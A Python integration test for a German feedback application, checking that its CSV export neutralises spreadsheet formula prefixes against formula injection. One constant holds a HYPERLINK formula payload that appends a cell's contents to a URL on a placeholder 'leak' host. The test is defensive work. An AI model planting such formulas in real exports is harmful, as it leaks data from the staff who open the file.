"""The feedback CSV export neutralises spreadsheet formulas (issue 12, hole 3).

The stored feedback (conftest) holds one question and one comment per OWASP prefix (``=``,
``+``, ``-``, ``@``, tab, CR); one more comment comes in through the UI like a user's. The
export is downloaded as a staff member would get it and read back with the ``csv`` module.
"""

from __future__ import annotations

import csv
import io

import pytest

from .conftest import ADMIN_PW, FORMULAS, login
from .rawclient import default_inputs

pytestmark = pytest.mark.integration

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
UI_COMMENT = '=HYPERLINK("https://example.invalid/leak?"&A2;"Mehr erfahren")'


def _url(value) -> str | None:
    if isinstance(value, dict):
        if isinstance(value.get("url"), str):
            return value["url"]
        value = list(value.values())
    if isinstance(value, list):
        for item in value:
            found = _url(item)
            if found:
                return found
    return None


def test_feedback_export_neutralises_formula_prefixes(server):
    with server.client("127.0.0.12") as c:
        cfg = c.config()
        assert login(c, cfg, ADMIN_PW).ok
        send = cfg.endpoint("fb-send.click")
        question = default_inputs(send)
        question[0] = "Zuschuss für Elektrolyseure in Sachsen"
        assert c.call(send, question).success
        save = cfg.endpoint("fb-feedback-save.click")
        values = default_inputs(save)
        values[:4] = [0, "schlecht", "sonstiges", UI_COMMENT]
        saved = c.call(save, values)
        assert saved.success and "gespeichert" in saved.text(), saved.text()[:300]
        export = cfg.endpoint("fb-feedback-csv.click")
        exported = c.call(export, default_inputs(export))
        url = _url(exported.data)
        assert exported.success and url, exported.text()[:300]
        resp = c.http.get(url)
        resp.raise_for_status()
    text = resp.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    for dangerous in (*FORMULAS, UI_COMMENT.strip()):
        assert dangerous not in cells, f"{dangerous!r} unverändert exportiert"
        assert "'" + dangerous in cells, f"{dangerous!r} fehlt im Export"
    assert not [cell for cell in cells if cell.startswith(PREFIXES)]
